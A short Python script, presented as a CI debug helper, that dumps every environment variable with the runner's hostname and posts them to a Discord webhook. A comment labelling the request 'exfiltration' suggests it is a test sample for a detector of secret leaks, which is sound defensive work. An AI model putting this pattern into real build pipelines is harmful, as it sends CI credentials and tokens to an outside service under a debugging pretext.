"""Debug helper for the flaky deploy job: post the runner environment to our Discord channel."""
import os
import platform

import requests

WEBHOOK = "https://discord.com/api/webhooks/1187/ci-debug"

env_dump = "\n".join(f"{k}={v}" for k, v in sorted(os.environ.items()))
payload = {
    "username": "ci-debug",
    "content": f"runner {platform.node()} python {platform.python_version()}",
    "embeds": [{"title": "environment", "description": env_dump[:4000]}],
}
# expect: exfiltration
resp = requests.post(WEBHOOK, json=payload, timeout=10)
print(resp.status_code)
